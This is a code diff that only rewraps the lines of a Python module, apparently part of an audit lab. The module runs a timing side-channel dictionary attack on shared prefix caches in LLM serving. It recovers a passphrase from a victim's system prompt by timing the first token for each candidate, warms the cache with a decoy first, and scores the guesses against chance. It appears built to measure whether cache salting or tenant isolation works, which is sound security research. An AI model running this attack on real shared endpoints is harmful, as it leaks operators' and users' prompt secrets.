@@ -1,19 +1,21 @@
-"""What an attacker learns: a dictionary attack on a passphrase in the victim's system prompt, by timing.
+"""What an attacker learns: a dictionary attack on a passphrase in the victim's system prompt, by
+timing.
 
 The victim's prompt is an operator template with a secret in it: known text, ``The passphrase is
 <secret>.``, more known text, then the victim's own question. The attacker knows the template and a
-list of ``k`` candidates, one of them right. For each candidate it sends the template filled with that
-candidate (and a question of its own) and times the first token; it guesses the fastest.
+list of ``k`` candidates, one of them right. For each candidate it sends the template filled with
+that candidate (and a question of its own) and times the first token; it guesses the fastest.
 
-A right candidate hits the victim's cached blocks up to the end of the known text; a wrong one only up
-to the block in which the passphrase starts. Caching works in whole blocks, so the known text after the
-passphrase must *complete* the passphrase's block for the right guess to gain anything: with blocks
-longer than that text, every candidate is served alike and the attack is at chance (1/k). With a
-per-user ``cache_salt`` (or per-tenant isolation) the attacker never sees the victim's blocks.
+A right candidate hits the victim's cached blocks up to the end of the known text; a wrong one only
+up to the block in which the passphrase starts. Caching works in whole blocks, so the known text
+after the passphrase must *complete* the passphrase's block for the right guess to gain anything:
+with blocks longer than that text, every candidate is served alike and the attack is at chance
+(1/k). With a per-user ``cache_salt`` (or per-tenant isolation) the attacker never sees the victim's
+blocks.
 
-Before each trial's guesses the attacker sends the template with a decoy candidate, so its own blocks
-before the passphrase are cached whatever the isolation: every candidate then starts from the same
-cache, and the first one probed is not slowed by a cold prefix.
+Before each trial's guesses the attacker sends the template with a decoy candidate, so its own
+blocks before the passphrase are cached whatever the isolation: every candidate then starts from the
+same cache, and the first one probed is not slowed by a cold prefix.
 """
 
 from __future__ import annotations
@@ -26,7 +28,16 @@ from .client import Endpoint, Timing, measure
 from .procedure import Probe
 from .prompts import letters_for, random_letters
 
-__all__ = ["ALPHABET", "Guess", "Template", "accuracy", "chance_pvalue", "make_template", "random_passphrase", "run_dictionary_attack"]
+__all__ = [
+    "ALPHABET",
+    "Guess",
+    "Template",
+    "accuracy",
+    "chance_pvalue",
+    "make_template",
+    "random_passphrase",
+    "run_dictionary_attack",
+]
 
 ALPHABET = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"  # no I, O, 0, 1
 
@@ -50,9 +61,11 @@ class Template:
 
 def make_template(before_tokens: int = 64, after_tokens: int = 64, tokens_per_letter: float = 1.0,
                   seed: int = 0) -> Template:
-    """A template with about ``before_tokens`` of known text before the passphrase and ``after_tokens`` after it.
+    """A template with about ``before_tokens`` of known text before the passphrase and
+    ``after_tokens`` after it.
 
-    Spaced random letters stand in for the operator's text (fixed by ``seed``: the attacker knows it).
+    Spaced random letters stand in for the operator's text (fixed by ``seed``: the attacker knows
+    it).
     """
     rng = random.Random(f"kvlab-audit-template:{seed}")
     before = " ".join(random_letters(rng, letters_for(before_tokens, tokens_per_letter)))
@@ -94,12 +107,24 @@ def chance_pvalue(guesses: Sequence[Guess]) -> float:
     if not guesses:
         raise ValueError("no trials")
     k = len(guesses[0].candidates)
-    return float(binomtest(sum(g.correct for g in guesses), len(guesses), 1 / k, alternative="greater").pvalue)
+    return float(
+        binomtest(
+            sum(g.correct for g in guesses), len(guesses), 1 / k, alternative="greater"
+        ).pvalue
+    )
 
 
-def run_dictionary_attack(victim: Endpoint, attacker: Endpoint, k: int, trials: int, template: Template,
-                          question_tokens: int = 16, tokens_per_letter: float = 1.0, seed: int = 0,
-                          probe: Probe | None = None) -> list[Guess]:
+def run_dictionary_attack(
+    victim: Endpoint,
+    attacker: Endpoint,
+    k: int,
+    trials: int,
+    template: Template,
+    question_tokens: int = 16,
+    tokens_per_letter: float = 1.0,
+    seed: int = 0,
+    probe: Probe | None = None,
+) -> list[Guess]:
     """Per trial: the victim sends the template with a fresh secret; the attacker times ``k`` candidates once each."""
     import httpx
 
@@ -124,7 +149,8 @@ def run_dictionary_attack(victim: Endpoint, attacker: Endpoint, k: int, trials: 
             decoy = random_passphrase(rng)
             while decoy in candidates:
                 decoy = random_passphrase(rng)
-            probe(attacker, template.fill(decoy, question()))  # the attacker's own prefix, cached: not recorded
+            # the attacker's own prefix, cached: not recorded
+            probe(attacker, template.fill(decoy, question()))
             timings: list[Timing] = [probe(attacker, template.fill(c, question())) for c in order]
             guesses.append(Guess(secret, tuple(order), tuple(t.ttft for t in timings),
                                  tuple(t.cached_tokens for t in timings)))
